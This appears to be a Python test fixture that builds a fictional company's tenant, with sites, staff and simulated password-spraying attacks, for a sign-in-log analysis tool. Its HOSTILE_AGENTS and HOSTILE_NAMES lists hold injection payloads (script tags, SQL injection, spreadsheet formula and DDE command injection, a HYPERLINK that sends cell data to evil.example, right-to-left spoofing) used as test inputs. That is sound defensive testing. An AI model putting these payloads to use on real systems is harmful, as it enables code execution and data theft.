"""Fabrikam: a firm in Leeds and Bristol, wrong in many ways at once. Every verdict has somebody behind it."""

from collections.abc import Iterator
from typing import Final

from .fabrikam_mailers import MAILERS
from .world import App, Attack, Network, Person, Reported, Rhythm, Robot, Site, World

__all__ = ["FABRIKAM", "HOSTILE_AGENTS", "HOSTILE_NAMES"]

_SMTP = "Authenticated SMTP"

# What strangers put where they choose the words. A page, table or query that takes one for more than text is broken.
HOSTILE_AGENTS: Final = (
    "BAV2ROPC",
    "",
    '<script>document.title="read"</script>',
    '=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
    "Outlook \u202egpj.exe",
    "[reset your password](https://evil.example)",
    "'; drop table SigninLogs; --",
    "CBAInPROD",
    "+cmd|' /C calc'!A0",
    '"><img src=x onerror=alert(1)>',
    "@SUM(1+1)*cmd",
    '{{ 7 * 7 }} ${7*7} `id` "" | take 0 //',
    "\x1b[2Jgone\x07\tafter a tab\r\nafter a line",
    "-2+3+cmd",
)
_ENDLESS_AGENT: Final = "Mozilla/5.0 " + "A" * 200_000
HOSTILE_NAMES: Final = (
    "<script>alert(1)</script>",
    "=1+1",
    "administrator\u202emoc.elpmaxe",
    "o'brien",
    'a"b',
    "jos\u00e9",
)

_SITES: Final = {
    "leeds": Site("Leeds office", Network("203.0.113.10", "Leeds", "GB"), "office"),
    "bristol": Site("Bristol warehouse", Network("203.0.113.40", "Bristol", "GB"), "office"),
    "ledger": Site("Ledgerline, who host the ERP", Network("203.0.113.77", "Dublin", "IE", 64501), "hosted"),
    "payroll": Site("the payroll bureau", Network("198.51.100.66", "Frankfurt am Main", "DE", 64502), "hosted"),
    "surveys": Site("the survey service", Network("198.51.100.67", "Frankfurt am Main", "DE", 64502), "hosted"),
    "lena home": Site("Lena's home", Network("2001:db8:4a:7", "Harrogate", "GB", 64503), "home"),
    "viktor home": Site("Viktor's home", Network("203.0.113.131", "York", "GB", 64503), "home"),
    "nora home": Site("Nora's home", Network("2001:db8:4a:9", "Bath", "GB", 64503), "home"),
    "carrier": Site("a mobile network", Network("203.0.113.201", "London", "GB", 64504), "mobile"),
    "hotel": Site("a hotel in Lisbon", Network("198.51.100.19", "Lisboa", "PT", 64505), "away"),
    "abroad": Site("an unknown address in Brazil", Network("198.51.100.201", "S\u00e3o Paulo", "BR", 64506), "away"),
    "stranger": Site("an unknown address", Network("192.0.2.66", "", "SC", 64510), "away"),
    "cirrus": Site("Cirrus IT, the partner", Network("198.51.100.120", "Manchester", "GB", 64507), "office"),
    "azure": Site("Fabrikam's own servers in Azure", Network("203.0.113.220", "London", "GB", 64508), "hosted"),
}

_PEOPLE: Final = (
    Person("ines.carver", "Ines Carver", "leeds"),
    Person("tom.okafor", "Tom Okafor", "leeds"),
    Person("lena.brandt", "Lena Brandt", "leeds", "lena home"),
    Person("viktor.sala", "Viktor Sala", "leeds", "viktor home"),
    Person("marta.lindqvist", "Marta Lindqvist", "leeds"),
    Person("paula.reyes", "Paula Reyes", "leeds"),
    Person("hugo.penn", "Hugo Penn", "leeds"),
    Person("asha.rao", "Asha Rao", "leeds"),
    Person("george.finch", "George Finch", "leeds"),
    Person("mei.tan", "Mei Tan", "leeds"),
    Person("ruth.adeyemi", "Ruth Adeyemi", "leeds"),
    Person("colm.byrne", "Colm Byrne", "leeds"),
    Person("sara.vogel", "Sara Vogel", "leeds"),
    Person("jan.kowal", "Jan Kowal", "leeds"),
    Person("nora.pike", "Nora Pike", "bristol", "nora home"),
    Person("deb.hale", "Deb Hale", "bristol"),
    Person("sam.otieno", "Sam Otieno", "bristol"),
    Person("lukas.meyer", "Lukas Meyer", "bristol"),
    Person("anna@rossi-print.example", 'Rossi, Anna <anna@rossi-print.example> "Print"', "leeds", population="guest"),
    Person("kai@harbour-audit.example", "Kai Berg (Harbour Audit)", "hotel", population="guest"),
    Person("ola@cirrus-it.example", "Ola Nordin", "cirrus", population="partner"),
    Person("priya@cirrus-it.example", "Priya Menon", "cirrus", population="partner"),
    Person("ben@cirrus-it.example", "Ben Archer", "cirrus", population="partner"),
)

_APPS: Final = {
    "relay": App("5f0c6c1e-3d5b-4f0a-9a54-0c7f6a1b5fc1", "Fabrikam Mail Relay"),
    "fleet": App("8c2f7a90-6a0e-4d3e-8b11-52d1c0a7e3b4", "Fleet Mailer"),
    "stock": App("b7b9a3de-20f4-4b57-9c0d-6f1e2d3c4b5a", "Stock | sync [beta](https://stock.example) <b>2</b>"),
    "directory": App("00000002-0000-0000-c000-000000000000", "Windows Azure Active Directory"),
}


def _strangers() -> Iterator[Network]:
    """A botnet's networks: 56 of them, none near another and none of them a site."""
    places = (
        ("", "RU", 64509),
        ("Hanoi", "VN", 64510),
        ("", "CN", 64511),
        ("Lagos", "NG", 65536),
        ("Curitiba", "BR", 65537),
    )
    numbers = [f"192.0.2.{host}" for host in range(3, 254, 6) if host != 66]
    numbers += [f"198.51.100.{host}" for host in range(205, 250, 6)]
    numbers += [f"2001:db8:bad:{group:x}" for group in range(1, 8)]
    for position, address in enumerate(numbers):
        city, country, asn = places[position % len(places)]
        yield Network(address, city, country, asn)


_VICTIMS: Final = (
    "scanner",
    "erp",
    "ines.carver",
    "tom.okafor",
    "lena.brandt",
    "marta.lindqvist",
    "paula.reyes",
    "hugo.penn",
    "mei.tan",
    "ivy.marsh",
    "reports",
    "archive",
    "george.finch",
    "nora.pike",
)
_INVENTIONS: Final = (
    *("root", "info", "sales", "test", "office", "billing", "hr", "support", "noreply", "scan", "scan1", "copier"),
    *("mail", "backup1", "it", "helpdesk", "ceo", "finance", "warehouse", "printer", "fax", "service"),
    *(f"{first}.{last}" for first in ("john", "mary", "alex", "chris") for last in ("smith", "jones", "brown")),
    *HOSTILE_NAMES,
)

_ATTACKS: Final = (
    Attack(
        "botnet",
        "A botnet tries a few names from many networks, every day.",
        tuple(_strangers()),
        _VICTIMS,
        _INVENTIONS,
        (_SMTP, _SMTP, _SMTP, "IMAP4", "POP3", "Exchange ActiveSync", "Other clients", "Autodiscover"),
        Rhythm(per_day=48, hours=(0, 24), weekends=True),
        burst=10,
        agents=HOSTILE_AGENTS,
    ),
    Attack(
        "before ines",
        "The address that later signed in as Ines tried her colleagues first.",
        (_SITES["stranger"].network,),
        ("ines.carver", "tom.okafor", "marta.lindqvist", "paula.reyes", "hugo.penn", "scanner"),
        (),
        (_SMTP,),
        Rhythm(exactly=(10, 9), per_day=16, hours=(0, 3)),
    ),
    Attack(
        "loud",
        "Somebody tries what a very long user agent breaks.",
        (Network("192.0.2.252", "", "SC", 64510),),
        ("paula.reyes",),
        ("administrator",),
        (_SMTP,),
        Rhythm(exactly=(7,), per_day=6, hours=(12, 13)),
        agents=(_ENDLESS_AGENT,),
    ),
)

FABRIKAM: Final = World(
    name="fabrikam",
    title="Fabrikam",
    domain="fabrikam.example",
    days=35,
    sites=_SITES,
    people=_PEOPLE,
    apps=_APPS,
    mailers=MAILERS,
    attacks=_ATTACKS,
    robots=(Robot("relay", "relay", "exchange", "azure", Rhythm(first=16, per_day=4, hours=(0, 24), weekends=True)),),
    policies=frozenset({"block legacy", "require mfa"}),
    reported=(
        Reported("scanner@fabrikam.example", "Basic", 412),
        Reported("reception@fabrikam.example", "Basic", 96),
        Reported("postroom@fabrikam.example", "Basic", 31),
        Reported("copier.bristol@fabrikam.example", "Basic", 188, tls_1_2=0.0),
        Reported("invoices@fabrikam.example", "Basic", 1204),
        Reported("tom.okafor@fabrikam.example", "Basic", 57),
        Reported("monitor@fabrikam.example", "Basic", 143),
        Reported("payroll@fabrikam.example", "Basic", 366),
        Reported("lena.brandt@fabrikam.example", "Basic", 9),
        Reported("reports@fabrikam.example", "Basic", 152),
        Reported("reports@fabrikam.example", "OAuth", 38),
        # No sign-in of this one is in the log: the annual alarm test was before the log begins.
        Reported("alarm.panel@fabrikam.example", "Basic", 4),
    ),
)
"""The tenant with the rich story."""
